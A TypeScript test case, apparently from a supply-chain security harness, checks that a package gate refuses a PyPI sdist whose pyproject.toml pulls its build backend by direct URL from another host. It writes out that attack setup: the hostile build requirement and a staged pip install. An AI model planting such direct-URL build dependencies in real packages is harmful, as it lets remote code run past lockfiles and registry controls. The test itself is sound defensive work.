import type { Row } from '../row.ts';
import { wheelOf } from '../staged.ts';
import type { World } from '../world.ts';

const NAME = 'rp31-native';
const FILE = 'rp31_native-1.0.0.tar.gz';
const HARMLESS = 'rp31_native-0.9.0.tar.gz';
const BACKEND = '/rp31_backend-1.0.0-py3-none-any.whl';

const pyproject = ({ foreign }: World): string =>
  `[build-system]\nrequires = ["rp31-backend @ ${foreign.url}${BACKEND}"]\nbuild-backend = "rp31_backend"\n`;

export const row: Row = {
  id: 'RP31',
  title: 'what a build needs is an address: fetched from another host, past every lock',
  happened: 'PEP 518 requires with direct references, a technique',
  controls: ['C12'],
  clients: ['pip-26'],
  // Its sources are allowed: what refuses it is the address.
  policy: `
allow:
  - { pypi: ${NAME}, requirements: { sdist: allow } }
`,
  stage(world) {
    const { registry, foreign, mark } = world;
    foreign.put(BACKEND, wheelOf('rp31-backend', '1.0.0', mark.python));
    registry.addPypi(NAME, [
      { filename: HARMLESS },
      { filename: FILE, files: { 'pyproject.toml': pyproject(world) } },
    ]);
  },
  async attack(victim) {
    await victim.pip('install', `${NAME}==1.0.0`);
  },
  refused: { code: 'DIRECT_URL', name: NAME, ecosystem: 'pypi' },
  untouched: 'foreign',
  async probe(gate, { foreign }) {
    await gate.served(gate.file(NAME, HARMLESS));
    await gate.refused(gate.file(NAME, FILE), 'DIRECT_URL');
    if (foreign.asked.length > 0) throw new Error(`the other host was asked: ${foreign.asked.join(', ')}`);
  },
};
